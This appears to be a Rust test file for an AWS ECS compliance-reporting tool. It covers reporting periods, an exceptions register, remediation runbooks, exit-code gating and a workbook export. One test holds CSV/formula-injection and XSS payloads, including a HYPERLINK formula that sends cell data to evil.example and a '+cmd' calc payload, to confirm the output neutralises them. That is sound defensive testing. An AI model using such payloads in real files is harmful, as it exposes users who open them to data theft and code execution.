//! Period, exceptions register, remediation, gating and the workbook.

use crate::support::build::*;
use crate::support::*;
use serde_json::json;
use std::fs;

const TOKENIZER: &str =
    "arn:aws:ecs:eu-west-1:111122223333:task-set/payments/tokenizer/ecs-svc/4420000000000000004";
const REPORTING: &str =
    "arn:aws:ecs:us-east-1:777788889999:task-set/platform/reporting/ecs-svc/6620000000000000017";

#[test]
fn the_period_defaults_to_the_quarter_of_as_of_and_flags_stale_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    report(&[&samples()], &a, &[]);
    let s = json(&a.join("summary.json"));
    assert_eq!(s["period"]["label"], "2026-Q3");
    assert_eq!(s["last_observed"]["before"], 0);
    // In Q4 every observation of Q3 is stale; with an explicit range the same holds.
    report(
        &[&samples()],
        &b,
        &["--period", "2026-Q4", "--as-of", "2026-10-15"],
    );
    let s = json(&b.join("summary.json"));
    assert_eq!(
        (
            s["period"]["first_day"].as_str(),
            s["period"]["last_day"].as_str()
        ),
        (Some("2026-10-01"), Some("2026-12-31"))
    );
    assert_eq!(s["last_observed"]["before"], 15);
    assert_eq!(s["last_observed"]["unobserved"], 2);
    let rows = csv_rows(&b.join("data/reconciliation.csv"));
    assert_eq!(
        rows.iter()
            .filter(|r| r["observed_in_period"] == "before")
            .count(),
        15
    );
    let md = fs::read_to_string(b.join("report.md")).unwrap();
    assert!(
        md.contains("Period 2026-Q4: 2026-10-01 to 2026-12-31"),
        "{md}"
    );
    assert!(md.contains("15 only before it (stale evidence for this period)"));
    let c = dir.path().join("c");
    report(
        &[&samples()],
        &c,
        &["--from", "2026-09-28", "--to", "2026-09-30"],
    );
    let s = json(&c.join("summary.json"));
    assert_eq!(s["period"]["label"], "2026-09-28..2026-09-30");
    assert_eq!(
        s["last_observed"]["inside"].as_u64().unwrap()
            + s["last_observed"]["before"].as_u64().unwrap(),
        15
    );
    assert!(s["last_observed"]["before"].as_u64().unwrap() > 0);
}

#[test]
fn risk_accepted_rows_carry_their_note_into_the_exceptions_register() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("pack");
    report(&[&samples()], &out, &[]);
    let rows = csv_rows(&out.join("data/exceptions.csv"));
    assert_eq!(rows.len(), 2);
    let t = rows
        .iter()
        .find(|r| r["task_set_arn"] == TOKENIZER)
        .unwrap();
    assert_eq!(t["status"], "undocumented");
    assert!(t["note_text"].starts_with("RISK-2291"));
    assert_eq!(
        t["note_updated_by"],
        "arn:aws:sts::111122223333:assumed-role/SecurityAuditor/jdoe"
    );
    assert_eq!(t["note_updated_at"], "2026-09-03T12:00:00Z");
    let md = fs::read_to_string(out.join("report.md")).unwrap();
    assert!(md.contains("## Exceptions register") && md.contains("RISK-2291"));
}

#[test]
fn the_register_marks_documented_expired_undocumented_and_unused() {
    let dir = tempfile::tempdir().unwrap();
    let register = dir.path().join("register.csv");
    fs::write(
        &register,
        "task_set_arn,justification,approver,ticket,expires\n\
         arn:aws:ecs:eu-west-1:111122223333:task-set/payments/tokenizer/*,canary needs egress,CISO,RISK-2291,2026-12-15\n\
         arn:aws:ecs:us-east-1:777788889999:task-set/platform/reporting/ecs-svc/6620000000000000017,partner SFTP,CISO,EXC-0412,2026-08-31\n\
         arn:aws:ecs:eu-west-1:111122223333:task-set/payments/card-api/ecs-svc/4410000000000000001,legacy,CTO,RISK-1,2027-01-31\n\
         arn:aws:ecs:ap-south-1:*,old region,CTO,RISK-9,\n",
    )
    .unwrap();
    let out = dir.path().join("pack");
    report(
        &[&samples()],
        &out,
        &["--exceptions", register.to_str().unwrap()],
    );
    let rows = csv_rows(&out.join("data/exceptions.csv"));
    let status = |key: &str| {
        rows.iter()
            .find(|r| r["task_set_arn"] == key || r["register_task_set_arn"] == key)
            .map(|r| r["status"].clone())
    };
    assert_eq!(status(TOKENIZER).as_deref(), Some("documented"));
    assert_eq!(
        status(REPORTING).as_deref(),
        Some("expired"),
        "expired 2026-08-31, before as_of"
    );
    assert_eq!(status("arn:aws:ecs:eu-west-1:111122223333:task-set/payments/card-api/ecs-svc/4410000000000000001").as_deref(), Some("not-suppressed"));
    assert_eq!(
        status("arn:aws:ecs:ap-south-1:*").as_deref(),
        Some("unused")
    );
    let tokenizer = rows
        .iter()
        .find(|r| r["task_set_arn"] == TOKENIZER)
        .unwrap();
    assert_eq!(
        (
            tokenizer["approver"].as_str(),
            tokenizer["ticket"].as_str(),
            tokenizer["register_line"].as_str()
        ),
        ("CISO", "RISK-2291", "2")
    );
    let s = json(&out.join("summary.json"));
    assert_eq!(
        s["exceptions"],
        json!({"documented": 1, "expired": 1, "not-suppressed": 1, "undocumented": 0, "unused": 1})
    );
    let m = json(&out.join("manifest.json"));
    assert_eq!(
        m["exceptions_register"]["path"],
        register.display().to_string()
    );
    assert_eq!(
        m["exceptions_register"]["size"],
        fs::metadata(&register).unwrap().len()
    );
}

#[test]
fn a_bad_register_stops_the_run_with_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let register = dir.path().join("register.csv");
    fs::write(
        &register,
        "task_set_arn,justification,approver,ticket,expires\narn:x,j,a,t,next year\n",
    )
    .unwrap();
    let o = run(&[
        &"report",
        &samples(),
        &"--out",
        &dir.path().join("p"),
        &"--exceptions",
        &register,
    ]);
    assert_exit(&o, 2);
    assert!(
        stderr(&o).contains(&format!("{}:2: expires", register.display())),
        "{}",
        stderr(&o)
    );
    assert!(!dir.path().join("p").exists());
}

#[test]
fn every_exposed_task_set_gets_prefilled_remediation() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("pack");
    report(&[&samples()], &out, &[]);
    let rows = csv_rows(&out.join("data/reconciliation.csv"));
    let md = fs::read_to_string(out.join("report.md")).unwrap();
    let html = fs::read_to_string(out.join("index.html")).unwrap();
    let exposed: Vec<_> = rows
        .iter()
        .filter(|r| {
            [
                "NON_COMPLIANT",
                "RISK_ACCEPTED",
                "UNASSESSED_EXPOSED",
                "CONFLICT",
            ]
            .contains(&r["outcome"].as_str())
        })
        .collect();
    assert_eq!(exposed.len(), 9);
    // The body has a status line per exposed task set; the runbooks are in the appendix.
    let status = md
        .split("### Remediation status")
        .nth(1)
        .unwrap()
        .split("## Inputs and integrity")
        .next()
        .unwrap();
    let appendix = md
        .split("## Appendix A. Remediation runbooks")
        .nth(1)
        .unwrap();
    for r in &exposed {
        let arn = r["task_set_arn"].replace('_', "\\_");
        assert!(
            status.contains(&format!("| {arn} |")),
            "no status for {arn}"
        );
        assert!(
            appendix.contains(&format!(": {arn}\n")),
            "no runbook for {}",
            r["task_set_arn"]
        );
        let html = html.replace("&#x2F;", "/");
        assert!(
            html.contains(&format!("--task-set {}", r["task_set_arn"]))
                || r["started_by"] == "CODE_DEPLOY"
        );
    }
    // The card-api task set: its own cluster, service, task definition, subnets, groups, launch type, target group.
    for want in [
        "--cluster payments --service card-api",
        "--task-definition arn:aws:ecs:eu-west-1:111122223333:task-definition/card-api:11",
        "--launch-type FARGATE",
        "\"assignPublicIp\":\"DISABLED\"}}'",
        "\"containerName\":\"api\",\"containerPort\":8443}]'",
        "--scale value=0,unit=PERCENT",
        "aws ecs delete-task-set",
    ] {
        assert!(appendix.contains(want), "{want}");
    }
    // The CodeDeploy task set gets the AppSpec change instead, and every block reminds that subnets must be private.
    assert!(appendix.contains("AssignPublicIp: \"DISABLED\""));
    assert_eq!(appendix.matches("The subnets must be private").count(), 9);
}

#[test]
fn fail_on_exits_1_after_writing_the_pack_and_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("pack");
    let o = run(&[
        &"report",
        &samples(),
        &"--out",
        &out,
        &"-q",
        &"--fail-on",
        &"NON_COMPLIANT,UNASSESSED_EXPOSED",
    ]);
    assert_exit(&o, 1);
    assert_eq!(
        stderr(&o),
        "fail-on: 3 NON_COMPLIANT, 2 UNASSESSED_EXPOSED (the pack was written)\n"
    );
    assert!(out.join("manifest.json").exists());
    // An outcome nobody has does not fail the run; without --fail-on outcomes never set the exit code.
    let a = tempfile::tempdir().unwrap();
    let input = a.path().join("in");
    let arn = arn("api", 1);
    write_json(
        &input.join("p.json"),
        &page(vec![finding(
            "ECS.16", &arn, "PASSED", "RESOLVED", "ACTIVE",
        )]),
    );
    let o = run(&[
        &"report",
        &input,
        &"--out",
        &a.path().join("p"),
        &"-q",
        &"--fail-on",
        &"NON_COMPLIANT",
    ]);
    assert_exit(&o, 0);
    let o = run(&[&"report", &samples(), &"--out", &a.path().join("q"), &"-q"]);
    assert_exit(&o, 0);
}

use crate::workbook::xlsx_part;

#[test]
fn attack_strings_in_notes_and_tags_stay_inert_in_csv_and_xlsx() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    let a = arn("api", 1);
    let mut f = finding("ECS.16", &a, "FAILED", "SUPPRESSED", "ACTIVE");
    f["Note"] = json!({"Text": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "UpdatedBy": "@SUM(1+1)", "UpdatedAt": "2026-09-02T00:00:00Z"});
    f["AwsAccountName"] = json!("-2+3|<script>alert(1)</script>");
    f["Resources"][0]["Tags"] = json!({"owner": "+cmd|' /C calc'!A0"});
    write_json(&input.join("p.json"), &page(vec![f]));
    let out = dir.path().join("pack");
    report(&[&input], &out, &[]);
    let rows = csv_rows(&out.join("data/exceptions.csv"));
    assert_eq!(
        rows[0]["note_text"],
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(rows[0]["note_updated_by"], "'@SUM(1+1)");
    assert_eq!(rows[0]["account_name"], "'-2+3|<script>alert(1)</script>");
    let rec = csv_rows(&out.join("data/reconciliation.csv"));
    assert!(rec
        .iter()
        .flat_map(|r| r.values())
        .all(|v| !v.starts_with(['=', '+', '-', '@', '\t', '\r'])));
    // In the workbook: string cells (inline on the table sheets), never formulas, with Excel's quote prefix.
    let x = out.join("evidence.xlsx");
    let mut text = String::new();
    for n in 1..=11 {
        let sheet = xlsx_part(&x, &format!("xl/worksheets/sheet{n}.xml"));
        assert!(!sheet.contains("<f>"), "sheet{n} holds a formula");
        text.push_str(&sheet);
    }
    assert!(
        text.contains("<is><t>=HYPERLINK(") && text.contains("t=\"inlineStr\""),
        "the text is kept as it was, as a string cell"
    );
    assert!(xlsx_part(&x, "xl/styles.xml").contains("quotePrefix=\"1\""));
    let html = fs::read_to_string(out.join("index.html")).unwrap();
    assert!(
        !html.contains("<script>alert(1)</script>")
            && html.contains("&lt;script&gt;alert(1)&lt;&#x2F;script&gt;")
    );
}
